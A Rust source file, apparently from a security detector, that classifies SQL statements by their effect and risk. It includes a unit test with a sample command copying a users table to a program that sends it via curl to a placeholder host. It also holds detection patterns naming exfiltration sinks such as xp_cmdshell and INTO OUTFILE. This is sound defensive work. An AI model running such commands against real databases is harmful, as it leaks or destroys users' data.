//! SQL as what its statements do and to which tables.

use crate::detect::session::class::Class;
use sqlparser::ast::{Statement, Visit, Visitor};
use sqlparser::dialect::GenericDialect;
use sqlparser::parser::Parser;
use std::ops::ControlFlow;

/// One statement.
#[derive(Debug, Clone, PartialEq)]
pub(crate) struct SqlStep {
    pub(crate) class: Class,
    pub(crate) risk: f64,
    /// The statement's first words, for people.
    pub(crate) verb: String,
    pub(crate) tables: Vec<String>,
    /// Files, programs or people it reaches beyond the database.
    pub(crate) sinks: Vec<String>,
    /// Strings that are written.
    pub(crate) literals: Vec<String>,
}

const MAX_BYTES: usize = 64 << 10;
const MAX_STATEMENTS: usize = 50;

/// The statements; one that cannot be parsed is judged by its first word.
pub(crate) fn steps(sql: &str) -> (Vec<SqlStep>, bool) {
    let sql = &sql[..sql.floor_char_boundary(MAX_BYTES)];
    match Parser::parse_sql(&GenericDialect {}, sql) {
        Ok(statements) => (statements.iter().take(MAX_STATEMENTS).map(step).collect(), true),
        Err(_) => (sql.split(';').filter_map(by_word).take(MAX_STATEMENTS).collect(), false),
    }
}

fn step(statement: &Statement) -> SqlStep {
    let text = statement.to_string();
    let mut found = by_word(&text).unwrap_or_else(|| SqlStep {
        class: Class::Execute,
        risk: 0.1,
        verb: "sql".to_owned(),
        tables: Vec::new(),
        sinks: Vec::new(),
        literals: Vec::new(),
    });
    let mut tables = Tables(Vec::new());
    let _ = statement.visit(&mut tables);
    tables.0.sort();
    tables.0.dedup();
    found.tables = tables.0;
    found
}

struct Tables(Vec<String>);

impl Visitor for Tables {
    type Break = ();

    fn pre_visit_relation(&mut self, relation: &sqlparser::ast::ObjectName) -> ControlFlow<()> {
        self.0.push(relation.to_string().replace(['"', '`'], "").to_lowercase());
        ControlFlow::Continue(())
    }
}

/// By the first words, which say what a statement does in any dialect.
fn by_word(statement: &str) -> Option<SqlStep> {
    let lower = statement.trim().to_lowercase();
    let mut words = lower.split_whitespace();
    if words.next().is_some_and(|first| WRAPPERS.contains(&first)) {
        // `BEGIN EXECUTE IMMEDIATE 'ALTER …' || 'x'; END`: a statement put together from strings.
        let all: Vec<&str> = strings(statement).take(MAX_STRINGS).collect();
        let joined = (0..all.len()).rev().map(|from| all[from..].concat());
        let inner = all.iter().map(|one| (*one).to_owned()).chain(joined);
        let steps = inner.filter_map(|inner| {
            let lower = inner.trim().to_lowercase();
            if is_statement(&lower) { direct(&inner, &lower) } else { None }
        });
        // What stands in strings may be a blind: the gravest counts, of equals the last, as what all strings
        // make together names the most.
        return direct(statement, &lower)
            .into_iter()
            .chain(steps)
            .reduce(|best, step| if step.risk >= best.risk { step } else { best });
    }
    direct(statement, &lower)
}

/// Strings of a statement that are looked at.
const MAX_STRINGS: usize = 12;

/// Whether a string is a statement and no prose: "Drop by tomorrow", "Grant review done".
fn is_statement(lower: &str) -> bool {
    const THINGS: [&str; 18] = [
        "table",
        "user",
        "role",
        "login",
        "database",
        "schema",
        "view",
        "index",
        "function",
        "procedure",
        "trigger",
        "event",
        "job",
        "share",
        "stage",
        "system",
        "session",
        "sequence",
    ];
    let mut words = lower.split_whitespace();
    let (first, second) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
    let has = |word: &str| lower.split_whitespace().any(|other| other == word);
    match first {
        "drop" | "create" | "alter" => THINGS.contains(&second) || second == "or",
        "truncate" => second == "table" || lower.split_whitespace().count() == 2,
        "grant" => has("to"),
        "revoke" => has("from"),
        "delete" => second == "from",
        "insert" | "merge" | "replace" => second == "into",
        "update" => has("set"),
        "copy" | "unload" | "export" | "load" => has("to") || has("from") || has("into"),
        "select" | "with" | "call" | "exec" | "execute" => true,
        _ => false,
    }
}

/// How statements begin that run another one.
const WRAPPERS: [&str; 4] = ["begin", "execute", "exec", "declare"];

fn direct(statement: &str, lower: &str) -> Option<SqlStep> {
    let mut words =
        lower.split(|c: char| !c.is_alphanumeric() && c != '_').filter(|word| !word.is_empty());
    let first = words.next()?.to_owned();
    let second = words.next().unwrap_or_default();
    let (class, risk) = match first.as_str() {
        "select" | "with" | "show" | "describe" | "desc" | "explain" | "values" | "pragma"
        | "use" => (Class::Read, 0.05),
        "insert" | "update" | "merge" | "replace" | "upsert" => (Class::Write, 0.3),
        "create" if matches!(second, "user" | "role" | "login") => (Class::Grant, 0.7),
        "create" if matches!(second, "trigger" | "event" | "job") => (Class::Persist, 0.6),
        "alter" if adds_a_member(lower) => (Class::Grant, 0.7),
        "create" | "comment" | "alter" => (Class::Write, 0.25),
        "delete" => (Class::Delete, 0.5),
        "drop"
            if matches!(
                second,
                "index" | "view" | "materialized" | "constraint" | "trigger" | "column"
            ) =>
        {
            (Class::Delete, 0.25)
        }
        "drop" | "truncate" => (Class::Delete, 0.7),
        "grant" => (Class::Grant, 0.7),
        "revoke" => (Class::Grant, 0.5),
        "copy" | "unload" | "export" | "load" => (Class::Network, 0.4),
        "call" | "exec" | "execute" | "do" => (Class::Execute, 0.3),
        "set" | "vacuum" | "analyze" | "begin" | "commit" | "rollback" | "start" => {
            (Class::Configure, 0.05)
        }
        _ => return None,
    };
    let sinks = sinks(statement, lower);
    let (class, risk) = match sinks.is_empty() {
        true => (class, risk),
        // A file on the database's own machine is not outside.
        false if !lower.contains("program") && sinks.iter().all(|sink| sink.starts_with('/')) => {
            (Class::Write, 0.3)
        }
        false => (Class::Send, f64::max(risk, 0.6)),
    };
    let literals = match class {
        Class::Read => Vec::new(),
        Class::Grant => grantees(lower),
        _ => strings(statement).take(16).map(str::to_owned).collect(),
    };
    Some(SqlStep { class, risk, verb: first, tables: Vec::new(), sinks, literals })
}

/// `COPY … TO 'x'`, `TO PROGRAM 'x'`, `INTO OUTFILE 'x'`, `dblink('…')`, an address in a string.
fn sinks(statement: &str, lower: &str) -> Vec<String> {
    let leaves = [
        " to '",
        " to program '",
        " connection '",
        "into outfile '",
        "into dumpfile '",
        "dblink",
        "http_post",
        "utl_http",
        "xp_cmdshell",
        "export data",
        "unload",
    ];
    if !leaves.iter().any(|phrase| lower.contains(phrase)) {
        return Vec::new();
    }
    strings(statement).take(8).map(str::to_owned).collect()
}

/// What else than a role may be named behind `TO` and `ADD`.
const KINDS: [&str; 10] = [
    "share", "role", "user", "users", "group", "database", "account", "accounts", "member",
    "members",
];

/// `ALTER SHARE s ADD ACCOUNTS = x`, `ALTER GROUP g ADD USER u`.
fn adds_a_member(lower: &str) -> bool {
    let mut words = lower.split_whitespace().skip_while(|word| *word != "add").skip(1);
    words.next().is_some_and(|word| KINDS.contains(&word.trim_end_matches('=')))
}

/// Who gets something: behind `TO` and `ADD`, or the name of a new user or role.
fn grantees(lower: &str) -> Vec<String> {
    let words: Vec<&str> = lower
        .split(|c: char| c.is_whitespace() || c == ';' || c == ',' || c == '=')
        .filter(|word| !word.is_empty())
        .collect();
    let makes_room = adds_a_member(lower);
    let mut found = Vec::new();
    for (at, word) in words.iter().enumerate() {
        let is_new = at <= 3
            && matches!(words.first(), Some(&"create"))
            && matches!(*word, "user" | "role" | "login");
        if (*word == "to" && at > 1) || (*word == "add" && makes_room) || is_new {
            let mut names = words[at + 1..].iter().peekable();
            // What holds things has members of its own, and they count.
            if names.peek().is_some_and(|name| matches!(**name, "share" | "database" | "group")) {
                continue;
            }
            let name = names.find(|name| is_new || !KINDS.contains(name));
            let name = name.map(|name| name.trim_matches(['"', '\'', '`']));
            found.extend(
                name.filter(|name| !matches!(*name, "" | "password" | "public")).map(str::to_owned),
            );
        }
    }
    found
}

fn strings(statement: &str) -> impl Iterator<Item = &str> {
    statement.split('\'').skip(1).step_by(2).filter(|text| !text.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn classes(sql: &str) -> Vec<Class> {
        steps(sql).0.into_iter().map(|step| step.class).collect()
    }

    #[test]
    fn statements_have_their_class_and_tables() {
        assert_eq!(classes("select 1; DROP TABLE users"), [Class::Read, Class::Delete]);
        assert_eq!(classes("grant all on a to b"), [Class::Grant]);
        let (found, parsed) = steps("select a.x from hr.payroll a join users b on a.id = b.id");
        assert!(parsed);
        assert_eq!(found[0].tables, ["hr.payroll", "users"]);
    }

    #[test]
    fn what_leaves_the_database_is_sent() {
        let (found, _) =
            steps("COPY (select * from users) TO PROGRAM 'curl -d @- https://x.example'");
        assert_eq!((found[0].class, found[0].sinks.len()), (Class::Send, 1));
    }

    #[test]
    fn what_cannot_be_parsed_is_judged_by_its_first_word() {
        let (found, parsed) = steps("delete form users wher; nonsense");
        assert!(!parsed);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].class, Class::Delete);
    }
}
